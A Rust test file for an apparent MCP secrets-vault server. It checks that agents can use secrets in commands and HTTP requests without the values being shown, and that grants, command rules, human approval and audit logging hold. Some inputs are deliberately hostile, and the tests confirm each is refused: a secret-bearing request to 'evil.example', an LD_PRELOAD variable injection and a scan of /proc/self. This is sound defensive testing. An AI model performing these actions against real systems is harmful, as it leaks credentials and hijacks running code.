//! The tools that use secrets, through a client.

use std::path::PathBuf;

use ::mcp::Version;
use mcp_testkit::Client;
use serde_json::{Value, json};

use crate::approval::Decision;
use crate::capability::{Capabilities, Capability};
use crate::client::AuthyClient;
use crate::config::Config;
use crate::credential::Credential;
use crate::grant::NewGrant;
use crate::keys::Identity;
use crate::name::{PolicyName, SecretName};
use crate::policy::NewPolicy;
use crate::secret::{Attributes, Consent, NewSecret, Overwrite};
use crate::session::Session;
use crate::slot::NewSlot;
use crate::value::SecretValue;
use crate::vault::Vault;

const VALUE: &str = "correct-horse-battery";

/// A vault of its own for a test, and the session of its owner.
struct Desk {
    folder: PathBuf,
    owner: Session,
}

impl Desk {
    fn new(name: &str) -> Desk {
        let folder = std::env::temp_dir().join(format!("authy-tools-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&folder);
        let identity = Identity::random().expect("random");
        let owner = Vault::at(folder.join("vault")).create(&[NewSlot::Keyfile(identity)]).expect("a vault");
        Desk { folder, owner }
    }

    fn store(&self, name: &str, value: &str, attributes: Attributes) {
        let name = SecretName::new(name).expect("a name");
        let value = SecretValue::new(value).expect("a value");
        let secret = NewSecret { name, value, attributes: Some(attributes) };
        self.owner.store(&secret, Overwrite::Refuse).expect("stored");
    }

    /// A client with a grant for everything whose name begins with `app`.
    fn agent(&self, capabilities: Capabilities) -> Client {
        let policy = PolicyName::new("app").expect("a name");
        let new = NewPolicy {
            name: policy.clone(),
            allow: vec!["app*".to_owned()],
            deny: Vec::new(),
            description: None,
            run_only: false,
        };
        self.owner.create_policy(&new).expect("a policy");
        let grant = NewGrant { capabilities, asks_client: true, ..NewGrant::for_agent("test", policy) };
        let token = self.owner.create_grant(&grant).expect("a grant").token;
        let client = AuthyClient::new(Vault::at(self.folder.join("vault")), Credential::Token(token));
        Client::memory(crate::server(Config::Client(Some(client))))
    }
}

impl Drop for Desk {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.folder);
    }
}

fn commands(rules: &[&str]) -> Attributes {
    Attributes { commands: rules.iter().map(|rule| (*rule).to_owned()).collect(), ..Attributes::default() }
}

fn call(client: &mut Client, tool: &str, arguments: Value) -> (bool, String) {
    read(&client.call(tool, arguments))
}

fn read(result: &Value) -> (bool, String) {
    let text = result["content"][0]["text"].as_str().unwrap_or_else(|| panic!("{result}")).to_owned();
    assert!(!text.contains(VALUE), "a value got out: {text}");
    (result["isError"] == true, text)
}

fn run(script: &str) -> Value {
    json!({ "command": ["sh", "-c", script], "secrets": [{ "name": "app/db", "variable": "PASSWORD" }] })
}

#[test]
fn a_command_uses_a_secret_that_is_not_shown() {
    let desk = Desk::new("run");
    desk.store("app/db", VALUE, commands(&["sh -c *"]));
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let script = format!("test $PASSWORD = {VALUE} && echo same; env; echo $PASSWORD | rev >&2");
    let (failed, text) = call(&mut client, "run_with_secrets", run(&script));
    assert!(!failed && text.starts_with("exit code 0\nstdout:\n") && text.contains("same\n"), "{text}");
    assert!(text.contains("PASSWORD=[secret:app/db]") && !text.contains("AUTHY"), "{text}");
    let (failed, text) = call(&mut client, "get_secret", json!({ "name": "app/db" }));
    assert!(failed && text.starts_with("Run-only mode"), "{text}");
    let used = desk.owner.audit_entries(None).expect("a log");
    assert!(used.iter().any(|entry| format!("{entry:?}").contains("run [")), "it is in the log");
}

#[test]
fn a_command_nobody_allowed_is_not_run() {
    let desk = Desk::new("rules");
    desk.store("app/db", VALUE, commands(&["git push *"]));
    desk.store("app/none", VALUE, Attributes::default());
    desk.store("other", VALUE, commands(&["sh **"]));
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let (failed, text) = call(&mut client, "run_with_secrets", run("env"));
    assert!(failed && text.contains("`git push *`"), "{text}");
    let with = |name: &str| json!({ "command": ["sh", "-c", "env"], "secrets": [{ "name": name }] });
    let (failed, text) = call(&mut client, "run_with_secrets", with("app/none"));
    assert!(failed && text.contains("no command is"), "{text}");
    let (failed, text) = call(&mut client, "run_with_secrets", with("other"));
    assert!(failed && text.contains("outside the scope"), "{text}");
    let (failed, text) = call(&mut client, "run_with_secrets", json!({ "command": ["env"] }));
    assert!(failed && text.contains("no secret is named"), "{text}");
}

#[test]
fn a_variable_that_changes_which_code_runs_is_refused() {
    let desk = Desk::new("variable");
    desk.store("app/db", VALUE, commands(&["env"]));
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let arguments =
        json!({ "command": ["env"], "secrets": [{ "name": "app/db", "variable": "LD_PRELOAD" }] });
    let (failed, text) = call(&mut client, "run_with_secrets", arguments);
    assert!(failed && text.contains("`LD_PRELOAD`"), "{text}");
}

/// Calls a tool and answers the question that comes, in the words of either era.
fn call_answering(
    client: &mut Client,
    version: Version,
    tool: &str,
    arguments: &Value,
    action: &str,
) -> (bool, String) {
    let answer = json!({ "action": action, "content": {} });
    if !version.is_modern() {
        let id = client.start("tools/call", json!({ "name": tool, "arguments": arguments }));
        let question = client.receive();
        assert_eq!(question["method"], "elicitation/create", "{question}");
        assert!(
            question["params"]["message"].as_str().is_some_and(|text| text.contains("app/db")),
            "{question}"
        );
        client.send_json(&json!({ "jsonrpc": "2.0", "id": question["id"], "result": answer }));
        return read(&client.response(&id)["result"]);
    }
    let asked = client.result("tools/call", json!({ "name": tool, "arguments": arguments }));
    assert_eq!(asked["resultType"], "input_required", "{asked}");
    let again = json!({
        "name": tool, "arguments": arguments,
        "inputResponses": { "use": answer }, "requestState": asked["requestState"],
    });
    read(&client.result("tools/call", again))
}

#[test]
fn a_person_is_asked_each_time_in_both_eras() {
    for version in [Version::V2025_11_25, Version::MODERN] {
        let desk = Desk::new(&format!("ask-{version}"));
        desk.store("app/db", VALUE, Attributes { approve_each_use: true, ..commands(&["sh -c *"]) });
        let mut client = desk
            .agent(Capabilities::AGENT)
            .capable(json!({ "elicitation": { "form": {} } }))
            .speaking(version);
        let arguments = run("echo $PASSWORD");
        for _ in 0..2 {
            let (failed, text) =
                call_answering(&mut client, version, "run_with_secrets", &arguments, "accept");
            assert!(!failed && text.contains("[secret:app/db]"), "{version}: {text}");
        }
        let (failed, text) = call_answering(&mut client, version, "run_with_secrets", &arguments, "decline");
        assert!(failed && text.contains("not approved"), "{version}: {text}");
    }
}

#[test]
fn where_nobody_can_be_asked_the_owner_approves_in_a_terminal_and_once() {
    let desk = Desk::new("approve");
    desk.store("app/db", VALUE, Attributes { approve_each_use: true, ..commands(&["sh -c *"]) });
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let arguments = run("echo $PASSWORD");
    let (failed, text) = call(&mut client, "run_with_secrets", arguments.clone());
    assert!(failed && text.contains("authy approve"), "{text}");
    let waiting = desk.owner.approvals().expect("a list");
    assert!(waiting[0].purpose.contains("echo $PASSWORD"), "{waiting:?}");
    desk.owner.decide(&waiting[0], Decision::Approve).expect("approved");
    let (failed, text) = call(&mut client, "run_with_secrets", arguments.clone());
    assert!(!failed && text.contains("[secret:app/db]"), "{text}");
    let (failed, text) = call(&mut client, "run_with_secrets", arguments);
    assert!(failed && text.contains("authy approve"), "{text}");
}

#[test]
fn a_request_goes_to_no_host_the_secret_is_not_bound_to() {
    let desk = Desk::new("request");
    desk.store(
        "app/key",
        VALUE,
        Attributes { hosts: vec!["api.example.com".to_owned()], ..Attributes::default() },
    );
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let request = |url: &str| {
        let header = json!({ "name": "Authorization", "value": "Bearer {{secret:app/key}}" });
        json!({ "method": "GET", "url": url, "headers": [header] })
    };
    let (failed, text) = call(&mut client, "http_request", request("https://evil.example/"));
    assert!(failed && text.contains("bound to: `api.example.com`"), "{text}");
    let (failed, text) = call(&mut client, "http_request", request("http://api.example.com/"));
    assert!(failed && text.contains("bound to"), "{text}");
    let (failed, text) =
        call(&mut client, "http_request", json!({ "method": "GET", "url": "https://a.example/" }));
    assert!(failed && text.contains("{{secret:NAME}}"), "{text}");
    let uses = desk.owner.audit_entries(None).expect("a log");
    assert!(
        !uses.iter().any(|entry| entry.operation == crate::audit::Operation::Use),
        "no value was unlocked"
    );
}

#[test]
fn a_request_brings_an_answer_without_the_secret() {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let site = format!("http://{}", listener.local_addr().expect("an address"));
    let server = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().expect("a client");
        let mut bytes = [0; 4096];
        let count = stream.read(&mut bytes).expect("a request");
        let head = format!("HTTP/1.1 200 OK\r\nconnection: close\r\ncontent-length: {count}\r\n\r\n");
        stream.write_all(&[head.as_bytes(), &bytes[..count]].concat()).expect("written");
        String::from_utf8_lossy(&bytes[..count]).into_owned()
    });
    let desk = Desk::new("answer");
    desk.store("app/key", VALUE, Attributes { hosts: vec![site.clone()], ..Attributes::default() });
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::MODERN);
    let arguments = json!({
        "method": "post", "url": format!("{site}/login?k={{{{secret:app/key}}}}"), "body": "x",
        "basic_auth": { "user": "ada", "secret": "app/key" },
    });
    let (failed, text) = call(&mut client, "http_request", arguments);
    assert!(server.join().expect("served").contains(&format!("/login?k={VALUE}")));
    assert!(!failed && text.starts_with("status 200\n") && text.contains("k=[secret:app/key]"), "{text}");
}

#[test]
fn a_value_is_made_and_replaced_without_being_seen() {
    let desk = Desk::new("generate");
    let store = Capabilities::of(Capabilities::AGENT.iter().chain([Capability::Store]));
    let mut client = desk.agent(store).speaking(Version::V2025_11_25);
    let (failed, text) = call(&mut client, "generate_secret", json!({ "name": "app/new", "length": 20 }));
    assert_eq!(
        (failed, text.as_str()),
        (false, "Generated secret 'app/new'; its value was stored and not shown")
    );
    let name = SecretName::new("app/new").expect("a name");
    let first = desk.owner.get(&name, Consent::Given).expect("a value");
    assert_eq!(first.len(), 20);
    let (failed, text) = call(&mut client, "generate_secret", json!({ "name": "app/new" }));
    assert!(failed && text.contains("already exists"), "{text}");
    let (failed, text) =
        call(&mut client, "rotate_secret", json!({ "name": "app/new", "kind": "hex", "length": 16 }));
    assert_eq!(
        (failed, text.as_str()),
        (false, "Rotated secret 'app/new'; version 2 was stored and not shown")
    );
    assert_eq!(desk.owner.get(&name, Consent::Given).expect("a value").len(), 32);
    let (failed, text) = call(&mut client, "generate_secret", json!({ "name": "app/x", "length": 5 }));
    assert!(failed && text.contains("8-4096"), "{text}");
}

#[test]
fn who_may_not_store_makes_no_values() {
    let desk = Desk::new("no-store");
    desk.store("app/db", VALUE, Attributes::default());
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    for (tool, name) in [("generate_secret", "app/new"), ("rotate_secret", "app/db")] {
        let (failed, text) = call(&mut client, tool, json!({ "name": name }));
        assert!(failed && text.contains("lacks the capability `store`"), "{tool}: {text}");
    }
}

#[test]
fn what_is_known_about_a_secret_is_told_without_its_value() {
    let desk = Desk::new("info");
    let attributes = Attributes { description: Some("the database".to_owned()), ..commands(&["psql **"]) };
    desk.store("app/db", VALUE, attributes);
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let (failed, text) = call(&mut client, "secret_info", json!({ "name": "app/db" }));
    let info: Value = serde_json::from_str(&text).expect("JSON");
    assert!(!failed, "{text}");
    assert_eq!((&info["version"], &info["commands"]), (&json!(1), &json!(["psql **"])));
    assert_eq!((&info["description"], &info["capabilities"]), (&json!("the database"), &json!("list,use")));
}

#[test]
fn a_one_time_code_is_made_from_a_secret_that_is_not_shown() {
    let desk = Desk::new("totp");
    desk.store("app/2fa", "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ", Attributes::default());
    desk.store("app/pin", "hunter18", Attributes::default());
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let (failed, text) = call(&mut client, "get_totp", json!({ "name": "app/2fa" }));
    let (code, rest) = text.split_at(6);
    assert!(
        !failed && code.bytes().all(|byte| byte.is_ascii_digit()) && rest.starts_with(" (good for "),
        "{text}"
    );
    let (failed, text) = call(&mut client, "get_totp", json!({ "name": "app/pin" }));
    assert!(failed && text.contains("base32"), "{text}");
}

#[test]
fn schemas_are_closed() {
    let desk = Desk::new("schemas");
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let listed = client.result("tools/list", json!({}));
    let tools = listed["tools"].as_array().expect("tools");
    let names: Vec<&str> = tools.iter().filter_map(|tool| tool["name"].as_str()).collect();
    let ours = [
        "run_with_secrets",
        "http_request",
        "generate_secret",
        "rotate_secret",
        "secret_info",
        "get_totp",
        "scan_for_leaks",
    ];
    assert_eq!(names[5..], ours);
    for tool in &tools[5..] {
        assert_eq!(tool["inputSchema"]["additionalProperties"], false, "{tool}");
        assert_eq!(mcp_testkit::surface::faults(tool), Vec::<String>::new());
    }
    let (failed, text) = call(&mut client, "secret_info", json!({ "name": "app/db", "reveal": true }));
    assert!(failed && text.contains("reveal"), "{text}");
}

#[test]
fn files_outside_the_allowed_folders_are_not_looked_through() {
    let desk = Desk::new("scan");
    desk.store("app/db", VALUE, Attributes::default());
    let mut client = desk.agent(Capabilities::AGENT).speaking(Version::V2025_11_25);
    let (failed, text) = call(&mut client, "scan_for_leaks", json!({ "paths": ["/proc/self"] }));
    assert!(failed && text.contains("is not in a folder this server may use"), "{text}");
    let (failed, text) = call(&mut client, "scan_for_leaks", json!({ "paths": [] }));
    assert!(failed && text.contains("paths"), "{text}");
}

#[test]
fn a_grant_to_use_needs_no_grant_to_list() {
    let desk = Desk::new("use-only");
    desk.store("app/db", VALUE, commands(&["sh -c *"]));
    let only = |text: &str| text.parse::<Capabilities>().expect("capabilities");
    let mut client = desk.agent(only("use")).speaking(Version::V2025_11_25);
    let (failed, text) = call(&mut client, "run_with_secrets", run("test -n \"$PASSWORD\" && echo used"));
    assert!(!failed && text.contains("used"), "{text}");
    for (tool, arguments) in [("list_secrets", json!({})), ("secret_info", json!({ "name": "app/db" }))] {
        let (failed, text) = call(&mut client, tool, arguments);
        assert!(failed && text.contains("`list`"), "{text}");
    }
}
